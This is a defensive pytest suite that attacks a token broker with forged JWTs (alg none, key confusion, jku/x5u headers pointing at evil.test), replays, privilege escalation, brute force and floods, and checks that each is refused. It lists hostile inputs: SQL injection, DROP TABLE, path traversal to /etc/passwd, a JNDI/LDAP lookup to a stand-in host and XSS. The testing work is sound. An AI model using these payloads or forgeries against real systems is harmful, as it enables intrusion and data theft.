"""The broker as an attacker sees it: forged keys, replays, escalation, injection, floods.

Each test plays one attack against the in-process broker (both databases) and asserts what
the attacker gets: an inactive key, a 4xx problem, a block, and an audit trail that says so;
never a 5xx, a leaked credential, or changed data. Attacks that only a real server shows
(oversized headers, slow clients) run against a ``broker serve`` process.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import hmac
import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from broker import credentials
from tests.conftest import Operators
from tests.support.asgi import lifespan
from tests.support.problems import assert_oauth_refusal
from tests.support.processes import BrokerProcess, broker_env
from tests.support.world import World, basic, bearer, build_world

PROBLEM = "application/problem+json"
KEY_REQUEST = {"audience": "customers-db", "fields": ["customer.email"], "purpose": "billing"}
INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE services; --",
    '" OR 1=1 --',
    "billing-api' --",
    "%' OR 1=1 --",
    "\\'; SELECT pg_sleep(5); --",
    "x\u0000y",
    "../../etc/passwd",
    "${jndi:ldap://evil.test/a}",
    "<script>alert(1)</script>",
)


def b64(data: bytes | dict[str, Any] | str) -> str:
    if isinstance(data, dict):
        data = json.dumps(data)
    if isinstance(data, str):
        data = data.encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def assert_problem(resp: httpx.Response, *statuses: int) -> dict[str, Any]:
    assert resp.status_code in statuses, (resp.status_code, resp.text[:500])
    assert resp.headers["content-type"].startswith(PROBLEM), resp.headers
    body: dict[str, Any] = resp.json()
    assert body["status"] == resp.status_code
    assert body["type"]
    assert body["title"]
    return body


@pytest.fixture
async def world(client: httpx.AsyncClient, operators: Operators) -> World:
    return await build_world(client, operators.admin, operators.approver)


async def _key(client: httpx.AsyncClient, world: World, **extra: Any) -> dict[str, Any]:
    resp = await client.post("/v1/keys", headers=world.billing, json={**KEY_REQUEST, **extra})
    assert resp.status_code == 201, resp.text
    body: dict[str, Any] = resp.json()
    return body


async def _active(client: httpx.AsyncClient, world: World, token: str) -> bool:
    resp = await client.post("/v1/introspect", headers=world.customers, data={"token": token})
    assert resp.status_code == 200, resp.text
    return bool(resp.json()["active"])


async def _audit(client: httpx.AsyncClient, operators: Operators, action: str) -> list[Any]:
    resp = await client.get(
        "/v1/admin/audit",
        params={"action": action, "limit": 1000},
        headers=bearer(operators.auditor),
    )
    assert resp.status_code == 200, resp.text
    events: list[Any] = resp.json()["events"]
    return events


# --- forged and altered keys -----------------------------------------------------------------


async def test_forged_keys_are_never_active(client: httpx.AsyncClient, world: World) -> None:
    real = (await _key(client, world))["key"]
    header = jwt.get_unverified_header(real)
    claims = jwt.decode(real, options={"verify_signature": False})
    head, body, sig = real.split(".")
    jwks = (await client.get("/.well-known/jwks.json")).json()
    public_x = base64.urlsafe_b64decode(jwks["keys"][0]["x"] + "==")
    attacker_ed = Ed25519PrivateKey.generate()
    attacker_ec = ec.generate_private_key(ec.SECP256R1())
    attacker_rsa = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    attacker_jwk = json.loads(jwt.algorithms.OKPAlgorithm.to_jwk(attacker_ed.public_key()))
    longer = {**claims, "exp": claims["exp"] + 86400}
    wider = json.loads(json.dumps(claims))
    wider["authorization_details"][0]["fields"].append("customer.ssn")
    kid = header["kid"]

    def signed(key: Any, alg: str, extra_header: dict[str, Any], payload: Any = None) -> str:
        return jwt.encode(
            payload or claims, key, algorithm=alg, headers={"typ": "at+jwt", **extra_header}
        )

    def hs256(secret: bytes, payload: dict[str, Any]) -> str:
        signing_input = f"{b64({'alg': 'HS256', 'typ': 'at+jwt', 'kid': kid})}.{b64(payload)}"
        mac = hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()
        return f"{signing_input}.{b64(mac)}"

    forged = {
        "alg none": f"{b64({'alg': 'none', 'typ': 'at+jwt', 'kid': kid})}.{body}.",
        "alg None": f"{b64({'alg': 'None', 'typ': 'at+jwt', 'kid': kid})}.{body}.",
        "HS256 with the public key bytes": hs256(public_x, claims),
        "HS256 with the JWKS text": hs256(json.dumps(jwks["keys"][0]).encode(), claims),
        "RS256 by the attacker with our kid": signed(attacker_rsa, "RS256", {"kid": kid}),
        "ES256 by the attacker with our kid": signed(attacker_ec, "ES256", {"kid": kid}),
        "EdDSA by the attacker with our kid": signed(attacker_ed, "EdDSA", {"kid": kid}),
        "foreign kid": signed(attacker_ed, "EdDSA", {"kid": "attacker-1"}),
        "kid injection": signed(attacker_ed, "EdDSA", {"kid": "' OR '1'='1"}),
        "kid path": signed(attacker_ed, "EdDSA", {"kid": "../../../dev/null"}),
        "jku": signed(attacker_ed, "EdDSA", {"kid": kid, "jku": "https://evil.test/jwks"}),
        "x5u": signed(attacker_ed, "EdDSA", {"kid": kid, "x5u": "https://evil.test/cert"}),
        "x5c": signed(attacker_ed, "EdDSA", {"kid": kid, "x5c": ["MIIB"]}),
        "embedded jwk": signed(attacker_ed, "EdDSA", {"kid": kid, "jwk": attacker_jwk}),
        "jku on the real signature": f"{b64({**header, 'jku': 'https://evil.test/j'})}.{body}.{sig}",
        "signature stripped": f"{head}.{body}.",
        "no signature part": f"{head}.{body}",
        "signature of another key": f"{head}.{body}.{b64(b'x' * 64)}",
        "exp extended": f"{head}.{b64(longer)}.{sig}",
        "fields widened": f"{head}.{b64(wider)}.{sig}",
        "duplicate alg in header": (
            b64('{"alg":"EdDSA","typ":"at+jwt","kid":"' + kid + '","alg":"none"}') + f".{body}."
        ),
        "duplicate aud in payload": (
            f"{head}."
            + b64(json.dumps(claims)[:-1] + ',"aud":"billing-api","aud":"customers-db"}')
            + f".{sig}"
        ),
        "two audiences": signed(attacker_ed, "EdDSA", {"kid": kid}, {**claims, "aud": ["a", "b"]}),
        "typ JWT": f"{b64({**header, 'typ': 'JWT'})}.{body}.{sig}",
        "crit header": f"{b64({**header, 'crit': ['exp']})}.{body}.{sig}",
        "five parts (JWE shape)": f"{head}.{body}.{sig}.x.y",
        "not base64": "!!!.???.***",
        "huge": "a" * 50_000,
    }
    assert await _active(client, world, real)
    for name, token in forged.items():
        assert not await _active(client, world, token), name


async def test_another_audience_cannot_read_or_use_a_key(
    client: httpx.AsyncClient, world: World
) -> None:
    key = (await _key(client, world))["key"]
    # The holder asking about its own key, as if it were the resource service: nothing.
    resp = await client.post("/v1/introspect", headers=world.billing, data={"token": key})
    assert resp.json() == {"active": False}
    # A usage report from a service that is not the key's audience is rejected per event.
    jti = jwt.decode(key, options={"verify_signature": False})["jti"]
    event = {
        "jti": jti,
        "fields": ["customer.email"],
        "records": 1,
        "outcome": "allowed",
        "source": "10.0.0.1",
        "at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
    }
    report = await client.post("/v1/usage", headers=world.billing, json={"events": [event]})
    assert report.status_code == 202, report.text
    assert report.json()["accepted"] == 0
    assert report.json()["rejected"][0]["reason"] == "wrong-audience"


# --- replay --------------------------------------------------------------------------------


async def test_max_uses_holds_under_concurrent_replay(
    client: httpx.AsyncClient, world: World
) -> None:
    key = (await _key(client, world, max_uses=3))["key"]
    answers = await asyncio.gather(*(_active(client, world, key) for _ in range(12)))
    assert sum(answers) == 3
    assert not await _active(client, world, key)


async def test_dpop_bound_keys_need_the_holders_fresh_proof(
    client: httpx.AsyncClient, world: World
) -> None:
    """The broker puts the holder's thumbprint in ``cnf.jkt``; the SDK's checker refuses a
    replayed proof, a proof for another URL or method, one without ``ath`` or signed by
    another key."""
    from broker.client.dpop import DPoPChecker, jwk_thumbprint, public_jwk
    from broker.client.errors import InvalidKey

    holder = Ed25519PrivateKey.generate()
    jwk = public_jwk(holder)
    jkt = jwk_thumbprint(jwk)
    key = (await _key(client, world, jkt=jkt))["key"]
    assert jwt.decode(key, options={"verify_signature": False})["cnf"]["jkt"] == jkt
    ath = b64(hashlib.sha256(key.encode()).digest())
    url = "https://customers.test/r"

    def proof(jti: str, signer: Any = holder, **over: Any) -> str:
        payload = {"jti": jti, "htm": "GET", "htu": url, "iat": int(time.time()), "ath": ath}
        payload.update(over)
        payload = {k: v for k, v in payload.items() if v is not None}
        header = {"typ": "dpop+jwt", "jwk": public_jwk(signer)}
        return jwt.encode(payload, signer, algorithm="EdDSA", headers=header)

    checker = DPoPChecker()
    good = proof("p-1")
    checker.check(good, access_token=key, jkt=jkt, method="GET", url=url)
    refused = {
        "replayed jti": good,
        "wrong htu": proof("p-2", htu="https://evil.test/r"),
        "wrong htm": proof("p-3", htm="POST"),
        "missing ath": proof("p-4", ath=None),
        "ath of another key": proof("p-5", ath=b64(hashlib.sha256(b"other").digest())),
        "old iat": proof("p-6", iat=int(time.time()) - 3600),
        "another holder": proof("p-7", signer=Ed25519PrivateKey.generate()),
    }
    for name, token in refused.items():
        with pytest.raises(InvalidKey) as info:
            checker.check(token, access_token=key, jkt=jkt, method="GET", url=url)
        assert info.value.reason == "dpop-invalid", name


# --- privilege escalation ------------------------------------------------------------------


async def test_operators_cannot_step_outside_their_role(
    client: httpx.AsyncClient, operators: Operators, world: World
) -> None:
    service = {"id": "rogue-svc", "name": "Rogue", "bindings": [{"kind": "secret"}]}
    for token in (operators.approver, operators.auditor):
        assert_problem(
            await client.post("/v1/admin/services", headers=bearer(token), json=service), 403
        )
        assert_problem(
            await client.post(
                "/v1/admin/operators", headers=bearer(token), json={"name": "x", "role": "admin"}
            ),
            403,
        )
    proposal = {
        "service": "customers-db",
        "audience": "billing-api",
        "fields": ["customer.email"],
        "purposes": ["billing"],
        "max_ttl_seconds": 60,
        "rate_per_minute": 10,
        "required_approvals": 1,
        "comment": "self-approval attempt",
    }
    made = await client.post("/v1/admin/policies", headers=bearer(operators.admin), json=proposal)
    assert made.status_code == 201, made.text
    policy = made.json()["id"]
    approve = f"/v1/admin/policies/{policy}/approve"
    assert_problem(
        await client.post(approve, headers=bearer(operators.auditor), json={"comment": "x"}), 403
    )
    assert_problem(
        await client.post(approve, headers=bearer(operators.admin), json={"comment": "x"}),
        403,
        409,
        422,
    )
    got = await client.get(f"/v1/admin/policies/{policy}", headers=bearer(operators.auditor))
    assert got.json()["status"] == "proposed"
    # A service's credentials open no operator route, and an operator token no service route.
    assert_problem(await client.get("/v1/admin/services", headers=world.billing), 401)
    assert_problem(
        await client.post("/v1/keys", headers=bearer(operators.admin), json=KEY_REQUEST), 401
    )


async def test_services_cannot_take_what_is_not_theirs(
    client: httpx.AsyncClient, world: World
) -> None:
    # customers-db has no policy: asking for its own audience or billing's gets nothing.
    for audience in ("customers-db", "billing-api"):
        resp = await client.post(
            "/v1/keys", headers=world.customers, json={**KEY_REQUEST, "audience": audience}
        )
        assert_problem(resp, 403)
    # billing asking beyond its policy: a field, a purpose, a TTL it was not granted.
    for extra in (
        {"fields": ["customer.ssn"]},
        {"purpose": "fraud-review"},
        {"audience": "billing-api"},
    ):
        resp = await client.post("/v1/keys", headers=world.billing, json={**KEY_REQUEST, **extra})
        assert resp.status_code in (400, 403, 422), (extra, resp.text)
    # A longer TTL than the policy allows is clamped to it, never granted.
    long = await client.post(
        "/v1/keys", headers=world.billing, json={**KEY_REQUEST, "ttl_seconds": 10**6}
    )
    assert long.status_code in (201, 400, 422), long.text
    if long.status_code == 201:
        assert long.json()["ttl_seconds"] <= 300
    # Revoking another service's key changes nothing (RFC 7009 still answers 200).
    key = (await _key(client, world))["key"]
    other = await client.post("/v1/revoke", headers=world.customers, data={"token": key})
    assert other.status_code == 200
    assert await _active(client, world, key)


# --- injection and overlong values -----------------------------------------------------------


async def _snapshot(client: httpx.AsyncClient, operators: Operators) -> dict[str, Any]:
    """What the admin API lists, without the last-seen times that reading itself moves."""
    h = bearer(operators.auditor)

    def steady(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{k: v for k, v in row.items() if not k.startswith("last_")} for row in rows]

    return {
        path: steady((await client.get(path, headers=h)).json())
        for path in (
            "/v1/admin/services",
            "/v1/admin/fields",
            "/v1/admin/purposes",
            "/v1/admin/policies",
            "/v1/admin/operators",
        )
    }


async def test_injection_strings_are_data_and_overlong_values_are_refused(
    client: httpx.AsyncClient, operators: Operators, world: World
) -> None:
    h = bearer(operators.admin)
    before = await _snapshot(client, operators)
    # Where a name must match a pattern, every hostile string is refused whole.
    named = [
        ("/v1/admin/services", lambda v: {"id": v, "name": "n", "bindings": [{"kind": "secret"}]}),
        ("/v1/admin/fields", lambda v: {"name": v, "classification": "contact"}),
        ("/v1/admin/purposes", lambda v: {"name": v, "description": "d", "legal_basis": "x"}),
        ("/v1/admin/operators", lambda v: {"name": v, "role": "auditor"}),
        ("/v1/admin/blocked-sources", lambda v: {"source": v, "reason": "r", "minutes": 1}),
    ]
    for path, body in named:
        for value in (*INJECTIONS, "n" * 10_000):
            assert_problem(await client.post(path, headers=h, json=body(value)), 400, 409, 422)
    # Path and query values are looked up as data, never interpreted.
    for value in INJECTIONS:
        if "\u0000" not in value:  # not even sendable in a URL
            quoted = httpx.URL("/v1/admin/services/").join(value.replace("/", "%2F"))
            resp = await client.get(str(quoted), headers=h)
            assert resp.status_code in (400, 404, 422), (value, resp.text)
        resp = await client.get("/v1/admin/policies", params={"service": value}, headers=h)
        assert resp.status_code in (200, 400, 422), (value, resp.text)
        if resp.status_code == 200:
            assert resp.json() == []
        resp = await client.get("/v1/admin/audit", params={"actor": value}, headers=h)
        assert resp.status_code in (200, 400, 422), (value, resp.text)
    # Service routes: hostile strings in every field of a key request and an exchange.
    for value in (*INJECTIONS, "f" * 10_000):
        for field in ("audience", "purpose"):
            resp = await client.post(
                "/v1/keys", headers=world.billing, json={**KEY_REQUEST, field: value}
            )
            assert_problem(resp, 400, 403, 422)
        resp = await client.post(
            "/v1/keys", headers=world.billing, json={**KEY_REQUEST, "fields": [value]}
        )
        assert_problem(resp, 400, 403, 422)
        resp = await client.post(
            "/v1/token",
            headers=world.billing,
            data={
                "grant_type": "urn:ietf:params:oauth:grant-type:token-exchange",
                "subject_token": value,
                "subject_token_type": value,
                "audience": value,
            },
        )
        assert_oauth_refusal(resp, 400, 401)
        resp = await client.post("/v1/introspect", headers=world.customers, data={"token": value})
        assert resp.status_code in (200, 400, 413)
        if resp.status_code != 200:
            assert_oauth_refusal(resp, 400, 413)
        for header in (basic(value, "pkbs_x"), basic("billing-api", value), bearer(value)):
            # After 30 failures credential_guessing throttles this address (429).
            assert_problem(
                await client.post("/v1/keys", headers=header, json=KEY_REQUEST), 401, 429
            )
    # A NUL character PostgreSQL cannot store is a 422 problem there, stored text on SQLite.
    nul = await client.post(
        "/v1/admin/purposes",
        headers=h,
        json={"name": "nul-check", "description": "a\u0000b", "legal_basis": "x"},
    )
    assert nul.status_code in (201, 422), nul.text
    # Free text is stored as given, and nothing else changed.
    comment = INJECTIONS[1]
    created = await client.post(
        "/v1/admin/purposes",
        headers=h,
        json={"name": "audit-check", "description": comment, "legal_basis": INJECTIONS[0]},
    )
    assert created.status_code == 201, created.text
    assert created.json()["description"] == comment
    after = await _snapshot(client, operators)
    after["/v1/admin/purposes"] = [
        p for p in after["/v1/admin/purposes"] if p["name"] not in ("audit-check", "nul-check")
    ]
    assert after == before


async def test_oversized_bodies_are_refused_with_a_problem(
    client: httpx.AsyncClient, operators: Operators, world: World
) -> None:
    big = "x" * (2 * 1024 * 1024)
    for path, headers in (
        ("/v1/keys", world.billing),
        ("/v1/admin/fields", bearer(operators.admin)),
    ):
        resp = await client.post(
            path, headers={**headers, "content-type": "application/json"}, content=big
        )
        assert_problem(resp, 400, 413)
    resp = await client.post("/v1/introspect", headers=world.customers, data={"token": big})
    assert_oauth_refusal(resp, 400, 413)  # an OAuth endpoint: an OAuth error
    nested = "[" * 50_000 + "]" * 50_000
    resp = await client.post(
        "/v1/keys",
        headers={**world.billing, "content-type": "application/json"},
        content=nested[:60_000],
    )
    assert_problem(resp, 400, 413, 422)


# --- brute force -------------------------------------------------------------------------------


async def test_guessing_one_services_secret_gets_the_address_throttled_and_audited(
    client: httpx.AsyncClient, operators: Operators, world: World, runtime: Any
) -> None:
    from tests.support.anomaly import settle

    statuses = []
    for i in range(35):
        resp = await client.post(
            "/v1/keys", headers=basic("billing-api", f"pkbs_{i:040d}"), json=KEY_REQUEST
        )
        statuses.append(resp.status_code)
        await settle(runtime)
    assert statuses[:30] == [401] * 30
    assert set(statuses[30:]) == {429}
    # The address is shared: the real service behind it is still served.
    served = await client.post("/v1/keys", headers=world.billing, json=KEY_REQUEST)
    assert served.status_code == 201, served.text
    assert len(await _audit(client, operators, "service:auth:failed")) == 35
    [throttle] = await _audit(client, operators, "system:source:throttled")
    assert throttle["subject"] == "source:127.0.0.1"


async def test_guessing_operator_tokens_throttles_the_address_with_retry_after(
    client: httpx.AsyncClient, operators: Operators, runtime: Any
) -> None:
    from broker.app import create_app
    from broker.operators.lockout import FAILURES

    for i in range(FAILURES):
        guess = credentials.generate(credentials.OPERATOR_TOKEN_PREFIX)
        resp = await client.get(
            "/v1/admin/services", headers=bearer(guess if i % 2 else "x" * (i + 1))
        )
        assert_problem(resp, 401)
    # Locked out: the next guess is answered 429 with Retry-After...
    guess = credentials.generate(credentials.OPERATOR_TOKEN_PREFIX)
    locked = await client.get("/v1/admin/services", headers=bearer(guess))
    body = assert_problem(locked, 429)
    assert body["type"].endswith("/rate-limited")
    assert 1 <= int(locked.headers["retry-after"]) <= 900
    assert guess not in locked.text
    # ...while a valid token from the same (shared) address keeps working.
    resp = await client.get("/v1/admin/services", headers=bearer(operators.admin))
    assert resp.status_code == 200, resp.text
    # Audited: every failure, and the lockout once.
    app = create_app(runtime=runtime, configure_logs=False)
    async with lifespan(app):
        transport = httpx.ASGITransport(app=app, client=("10.9.8.7", 40000))
        async with httpx.AsyncClient(transport=transport, base_url="http://broker.test") as other:
            # Another address is not affected.
            resp = await other.get("/v1/admin/services", headers=bearer(operators.admin))
            assert resp.status_code == 200
            failed = await other.get(
                "/v1/admin/audit",
                params={"action": "operator:auth:failed", "limit": 1000},
                headers=bearer(operators.auditor),
            )
            locks = await other.get(
                "/v1/admin/audit",
                params={"action": "system:operator_source:locked_out"},
                headers=bearer(operators.auditor),
            )
    assert len(failed.json()["events"]) == FAILURES
    [lock] = locks.json()["events"]
    assert lock["subject"] == "source:127.0.0.1"
    assert lock["details"] == {"failures": FAILURES, "seconds": 900}


def test_the_lockout_window_slides_and_ends() -> None:
    from broker.operators.lockout import OperatorLockout

    now = [1000.0]
    lockout = OperatorLockout(failures=3, window=10, lockout=60, clock=lambda: now[0])
    assert lockout.failed("a") is None
    now[0] += 11  # the first failure left the window
    assert lockout.failed("a") is None
    assert lockout.failed("a") is None
    assert lockout.retry_after("a") is None
    started = lockout.failed("a")
    assert started is not None
    assert started.failures == 3
    assert lockout.retry_after("a") == 60
    assert lockout.failed("a") is None  # failures while locked start no second lockout
    assert lockout.retry_after("b") is None
    now[0] += 61
    assert lockout.retry_after("a") is None
    small = OperatorLockout(failures=1, max_sources=2, clock=lambda: now[0])
    for source in ("x", "y", "z"):
        small.failed(source)
    assert small.retry_after("x") is None  # forgotten: the table stays bounded
    assert small.retry_after("z") is not None


async def test_secrets_are_compared_as_keyed_hashes_in_constant_time(
    client: httpx.AsyncClient, world: World, operators: Operators, monkeypatch: Any
) -> None:
    """No timed assertion: the comparison itself is what leaks timing, so the test checks
    that a near miss and a far miss both reach ``hmac.compare_digest`` on keyed hashes, never
    a short-circuiting ``==`` on the secret."""
    import broker.identity.authenticate as service_auth
    import broker.operators.service as operator_auth

    compared: list[tuple[int, int]] = []
    real = hmac.compare_digest

    def spy(a: Any, b: Any) -> bool:
        compared.append((len(a), len(b)))
        return real(a, b)

    monkeypatch.setattr(service_auth.hmac, "compare_digest", spy)
    monkeypatch.setattr(operator_auth.hmac, "compare_digest", spy)
    # The operator path: the stored hash is compared even for the right token.
    resp = await client.get("/v1/admin/operators/me", headers=bearer(operators.auditor))
    assert resp.status_code == 200
    assert compared
    assert all(a == b for a, b in compared)
    # Service secrets are looked up by keyed hash: the database never sees the secret, and
    # any well-formed wrong secret costs the same keyed hash and single lookup, however many
    # characters it shares with the real one. A malformed one (bad prefix or checksum) is
    # refused before that, which tells the caller only what it already knew.
    digests: list[str] = []
    keyed = credentials.keyed_hash

    def keyed_spy(pepper: bytes, value: str) -> str:
        digest = keyed(pepper, value)
        digests.append(digest)
        return digest

    monkeypatch.setattr(service_auth.credentials, "keyed_hash", keyed_spy)
    wrong = [credentials.generate(credentials.CLIENT_SECRET_PREFIX) for _ in range(2)]
    for secret in (*wrong, world.billing_secret[:-1] + "#", "wrong" * 10):
        resp = await client.post("/v1/keys", headers=basic("billing-api", secret), json=KEY_REQUEST)
        assert_problem(resp, 401)
    assert len(digests) == 2
    assert len(set(map(len, digests))) == 1
    assert world.billing_secret not in digests


# --- a real server: headers, slow clients ----------------------------------------------------


@pytest.fixture
def served(tmp_path: Path, database_url: str) -> Iterator[BrokerProcess]:
    with BrokerProcess(broker_env(tmp_path, database_url, BROKER_LOG_LEVEL="WARNING")) as broker:
        yield broker


def test_oversized_headers_are_refused_and_the_server_stays_up(served: BrokerProcess) -> None:
    for size in (20_000, 200_000):
        try:
            resp = httpx.get(
                served.url + "/v1/admin/services", headers={"X-Big": "a" * size}, timeout=10
            )
            assert 400 <= resp.status_code < 500
        except httpx.RemoteProtocolError:
            pass  # the server closed the connection: refused as well
    resp = httpx.get(
        served.url + "/v1/admin/services", headers={"Authorization": "Bearer " + "a" * 8000}
    )
    assert_problem(resp, 401)
    assert httpx.get(served.url + "/healthz", timeout=5).status_code == 200


def test_slow_clients_do_not_block_others(served: BrokerProcess) -> None:
    """Fifty connections trickling a request header do not stop a normal request."""
    slow: list[socket.socket] = []
    try:
        for _ in range(50):
            sock = socket.create_connection(("127.0.0.1", served.port), timeout=5)
            sock.sendall(b"POST /v1/keys HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n")
            slow.append(sock)
        for round_ in range(3):
            for sock in slow:
                # The server may drop a slow client: so much the better.
                with contextlib.suppress(OSError):
                    sock.sendall(f"X-Slow-{round_}: 1\r\n".encode())
            resp = httpx.get(served.url + "/.well-known/jwks.json", timeout=5)
            assert resp.status_code == 200
            time.sleep(0.2)
    finally:
        for sock in slow:
            sock.close()
    assert httpx.get(served.url + "/healthz", timeout=5).status_code == 200
